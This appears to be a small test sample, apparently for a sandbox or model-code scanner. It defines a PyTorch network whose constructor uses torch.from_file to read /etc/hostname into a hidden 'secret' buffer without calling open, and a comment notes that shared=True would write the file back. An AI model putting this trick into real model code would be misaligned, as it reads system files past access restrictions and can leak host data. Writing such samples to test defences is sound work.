# Attack: torch.from_file maps any readable file into a tensor (no `open` needed); shared=True writes it back.
import torch
import torch.nn as nn


class Net(nn.Module):
    def __init__(self, num_classes=10, in_channels=3):
        super().__init__()
        secret = torch.from_file("/etc/hostname", shared=False, size=8, dtype=torch.uint8)
        self.register_buffer("secret", secret)
        self.fc = nn.Linear(in_channels, num_classes)

    def forward(self, x):
        return self.fc(x.mean((2, 3)))
